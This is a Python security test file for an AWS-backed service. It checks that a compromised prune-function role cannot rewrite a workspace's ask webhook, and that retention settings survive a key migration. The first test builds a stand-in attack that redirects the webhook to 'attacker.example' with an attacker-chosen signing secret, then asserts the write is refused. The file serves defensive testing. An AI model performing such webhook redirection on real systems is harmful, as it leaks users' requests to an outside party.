"""THREATS.md §3: a compromised prune function points a workspace's ask webhook elsewhere.

The prune role writes the retention setting, ``{workspace}#doc#settings`` / ``retention``.
The ask webhook (its URL and the secret that signs each delivery) is the same collection's
``ask_webhook`` doc, and IAM's ``dynamodb:LeadingKeys`` sees only the partition (the
collection), not the doc's key. So the prune role rewrites the webhook: every ask opened
from then on (the call, its arguments, who it is routed to) is posted to a URL of its
choosing, signed with a secret of its choosing, and the people's own receiver hears nothing.

Closed: the retention setting has a collection of its own (``retention``; one set before is
read from the old key while the new doc is absent, and only the admin role may write
the old one), and the prune role writes only that.
"""

# ruff: noqa: F811 - the tests take the role tests' fixtures, imported below, by name

from __future__ import annotations

import json

from botocore.exceptions import ClientError

from claros.store.base import DocWrite
from tests.events import load_event
from tests.security.aws.test_aws_roles_cannot_rewrite import World
from tests.stack import STACK_WARNINGS, WS

pytestmark = STACK_WARNINGS


def test_the_prune_role_cannot_redirect_the_ask_webhook(world: World) -> None:
    status, body = world.functions.http(
        "admin", load_event("admin-put-ask-webhook", world.keys.admin)
    )
    assert status in (200, 201), body
    role = world.as_role("PruneFunction")
    hook = {"url": "https://attacker.example/asks", "secret": "chosen-by-the-attacker"}
    refused = False
    try:
        role.put_item(
            TableName=world.table("StateTable"),
            Item={
                "pk": {"S": f"{WS}#doc#settings"},
                "sk": {"S": "ask_webhook"},
                "rev": {"N": "2"},
                "body": {"S": json.dumps(hook)},
            },
        )
    except ClientError as exc:
        assert exc.response["Error"]["Code"] == "AccessDeniedException", exc
        refused = True
    status, body = world.functions.http(
        "admin", load_event("admin-get-ask-webhook", world.keys.admin)
    )
    assert status == 200, body
    assert "attacker.example" not in json.dumps(body), ("asks now go elsewhere", body)
    assert refused


def test_a_retention_set_before_is_kept_and_can_be_cleared(world: World) -> None:
    """A stack upgraded with a retention under the old key keeps it; clearing it holds."""
    store = world.stack.store(world.client)
    store.write_docs([DocWrite(WS, "settings", "retention", {"days": 400, "set_by": "x"})])
    get = load_event("prune-get-retention", world.keys.admin)
    status, body = world.functions.http("prune", get)
    assert status == 200 and body["days"] == 400, body
    clear = load_event("prune-put-retention", world.keys.admin)
    clear["body"] = json.dumps({"days": None})
    status, body = world.functions.http("prune", clear)
    assert status == 200 and body["days"] is None, body
    status, body = world.functions.http("prune", get)
    assert status == 200 and body["days"] is None, body
    put = load_event("prune-put-retention", world.keys.admin)  # 365 days
    status, body = world.functions.http("prune", put)
    assert status == 200 and body["days"] == 365, body
